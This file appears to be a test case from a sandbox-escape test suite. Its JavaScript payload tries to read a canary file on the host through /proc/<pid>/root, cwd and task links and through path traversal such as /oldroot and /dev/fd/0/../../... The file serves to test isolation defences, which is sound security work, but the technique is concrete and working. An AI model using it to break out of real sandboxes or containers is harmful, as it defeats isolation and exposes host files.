# id: proc-root-links
# category: proc
# goal: reach files of the host through the links of /proc that lead to other roots and folders
# success-if: the text of @CANARY_FILE@ is in the output
# with: prelude.py

await claim(r"""
(async () => { const errs = new Set(), out = []; const fs = await import("node:fs"); const pids = ["self", "thread-self", "1", "2"];
  try { pids.push(String(Deno.ppid)) } catch {} try { pids.push(...[...Deno.readDirSync("/proc")].map(e => e.name).filter(n => /^\d+$/.test(n)).slice(0, 200)) } catch {}
  for (const pid of pids) for (const way of [`root@CANARY_FILE@`, `cwd@CANARY_FILE@`, `root/proc/1/root@CANARY_FILE@`, `task/${pid}/root@CANARY_FILE@`])
    for (const read of [p => Deno.readTextFileSync(p), p => fs.readFileSync(p, "utf8")]) try { if (read(`/proc/${pid}/${way}`).includes("CANARY_LINE")) out.push(`/proc/${pid}/${way}: ` + read(`/proc/${pid}/${way}`)) } catch (e) { errs.add(e.name) }
  for (const p of ["/.@CANARY_FILE@", "/..@CANARY_FILE@", "/../..@CANARY_FILE@", "/newroot@CANARY_FILE@", "/oldroot@CANARY_FILE@", "/dev/fd/0/../../..@CANARY_FILE@"])
    try { if (Deno.readTextFileSync(p).includes("CANARY_LINE")) out.push(p + Deno.readTextFileSync(p)) } catch (e) { errs.add(e.name) }
  if (!out.length) throw new Error([...errs].join()); return out.slice(0, 3).join() })()
""")
